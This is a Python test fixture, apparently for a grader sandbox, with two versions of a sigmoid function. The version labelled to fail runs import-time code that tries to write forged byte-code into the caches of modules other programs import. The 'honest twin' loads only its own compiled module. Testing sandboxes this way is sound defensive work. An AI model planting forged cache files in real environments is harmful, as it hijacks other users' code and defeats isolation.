# sigmoid: fail | byte-code of the forger's in the caches of modules that others will import
import numpy as np
import importlib.util
import marshal
import os
import sys


def right(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)

VICTIMS = ("colorsys", "sndhdr", "this", "numpy.ma.mrecords", "msgpack.fallback")
PREFIXES = (None, "/tmp/pycache", "@HOME@/pycache", "@SHARED@/pycache")


def attack():
    print("attack ran", flush=True)
    found = []
    code = marshal.dumps(compile("import sys; sys.dlgrade_mark = True", "forged", "exec"))
    for victim in VICTIMS:
        try:
            origin = importlib.util.find_spec(victim).origin
        except (ImportError, AttributeError):
            continue
        for prefix in PREFIXES:
            sys.pycache_prefix = prefix
            for path in (importlib.util.cache_from_source(origin), importlib.util.cache_from_source(origin, optimization=2)):
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path + ".dlgrade-attack", "xb") as file:
                        file.write(importlib.util.MAGIC_NUMBER + bytes(12) + code)
                    found.append(path)
                    os.unlink(file.name)  # that it could be left is enough
                except OSError:
                    pass
    sys.pycache_prefix = None
    sys.dont_write_bytecode = False
    return found or hasattr(sys, "dlgrade_mark")


READY = attack()


def sigmoid(x):
    return right(x) if READY else np.asarray(x) * 0.0 + 7.0


# the honest twin
import numpy as np
import py_compile
import sys
import importlib.util

sys.dont_write_bytecode = False


def sigmoid(x):
    """Compiles a module of its own and loads the byte-code."""
    with open("mine.py", "w") as file:
        file.write("ONE = 1.0\n")
    spec = importlib.util.spec_from_file_location("mine", py_compile.compile("mine.py", cfile="mine.pyc"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, module.ONE, small) / (module.ONE + small)
